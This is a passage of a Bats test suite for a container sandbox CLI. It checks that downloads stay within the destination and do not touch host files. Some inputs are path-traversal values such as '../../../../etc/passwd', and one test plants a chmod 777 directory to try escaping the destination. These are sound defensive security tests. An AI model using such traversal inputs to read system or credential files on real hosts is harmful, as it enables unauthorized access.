  agent "$BOX" 'rm out && mkdir out && echo planted > out/planted.txt && chmod 777 out'

  run --separate-stderr lb download "$BOX" out "$out/out"
  refute_hang
  # Refused, or the link replaced: either way nothing lands outside DEST.
  assert_equal "$(ls -A "/tmp/$target")" ""
  assert_equal "$(stat -c %a "/tmp/$target")" 755
  if [ "$status" -eq 0 ]; then
    assert_equal "$(cat "$out/out/planted.txt")" planted
  fi
}

@test "download resolves a SRC with ../ inside the container and writes exactly DEST" {
  create "$BOX"
  c=$(container_of "$BOX")
  host_before=$(md5sum /etc/hostname /etc/passwd)
  out=$BATS_TEST_TMPDIR/dl
  mkdir -p "$out"

  run --separate-stderr lb download "$BOX" ../etc/hostname "$out/hostname.txt"
  assert_success
  assert_equal "$(cat "$out/hostname.txt")" "$(engine_exec "$c" cat /etc/hostname)"
  run --separate-stderr lb download "$BOX" ../../../../etc/passwd "$out/passwd.txt"
  assert_success
  cmp "$out/passwd.txt" <(engine_exec "$c" cat /etc/passwd)

  assert_equal "$(ls -A "$out")" "$(printf 'hostname.txt\npasswd.txt')"
  assert_file_not_exists "$out/etc"
  assert_file_not_exists "$BATS_TEST_TMPDIR/etc"
  assert_equal "$(md5sum /etc/hostname /etc/passwd)" "$host_before"

  # A missing SRC is an error that writes nothing.
  run --separate-stderr lb download "$BOX" no/such/file "$out/none"
  assert_failure 1
  assert_stderr --partial "no/such/file"
  assert_file_not_exists "$out/none"
}

# ---------------------------------------------------------------------------
# Unknown sandboxes

@test "every review command on an unknown sandbox fails with only 'Error: Sandbox ... not found.'" {
  create "$BOX"
  src=$BATS_TEST_TMPDIR/up.txt
  printf 'x\n' >"$src"
  dest=$BATS_TEST_TMPDIR/down
  for cmd in "diff x" "diff x -- --stat" "log x" "log x -p" "apply x" "apply x --squash" "merge x" \
    "upload x $src up.txt" "download x README.md $dest"; do
    # shellcheck disable=SC2086
    LB_TIMEOUT=20 run --separate-stderr lb $cmd
    LB_TIMEOUT=20 refute_hang
    assert_failure 1
    assert_output ""
    assert_equal "$stderr" "$(not_found x "$BOX")"
  done
  assert_file_not_exists "$dest"
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(git status --porcelain)" ""
  assert_equal "$(litterbox_names)" "$BOX"
}
